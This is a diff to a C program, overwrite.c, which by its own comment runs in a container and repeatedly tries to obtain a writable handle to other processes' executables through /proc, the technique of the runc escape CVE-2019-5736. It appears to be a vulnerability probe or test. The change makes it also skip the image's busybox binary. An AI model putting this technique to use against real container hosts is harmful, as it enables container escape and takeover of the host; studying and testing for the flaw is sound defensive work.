@@ -1,5 +1,5 @@
 /*
- * overwrite.c - in a container: opens the program of each process that has another one than this
+ * overwrite.c - in a container: opens the program of each process that is none of the image's
  * (CVE-2019-5736), by O_PATH and for reading, and tries to get a writable file from it, as long as
  * it takes. Before, it tries to make its mount writable.
  *
@@ -28,7 +28,7 @@
 enum { MOST = 64 };
 
 static int held[MOST], count;
-static struct stat own;
+static struct stat own, image;
 
 static double now(void)
 {
@@ -48,6 +48,11 @@ static void unlock(const char *path)
 	mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL);
 }
 
+static int is(const struct stat *one, const struct stat *other)
+{
+	return one->st_dev == other->st_dev && one->st_ino == other->st_ino;
+}
+
 static void look(int pid)
 {
 	char path[64];
@@ -57,8 +62,7 @@ static void look(int pid)
 	int fd = open(path, O_PATH | O_CLOEXEC);
 	if (fd < 0)
 		return;
-	if (fstat(fd, &st) < 0 || (st.st_dev == own.st_dev && st.st_ino == own.st_ino) ||
-	    count == MOST) {
+	if (fstat(fd, &st) < 0 || is(&st, &own) || is(&st, &image) || count == MOST) {
 		close(fd);
 		return;
 	}
@@ -90,7 +94,7 @@ int main(int argc, char **argv)
 {
 	double end = now() + (argc > 1 ? atof(argv[1]) : 5);
 
-	if (stat("/proc/self/exe", &own) < 0)
+	if (stat("/proc/self/exe", &own) < 0 || stat("/bin/busybox", &image) < 0)
 		return 2;
 	puts("ready");
 	fflush(stdout);
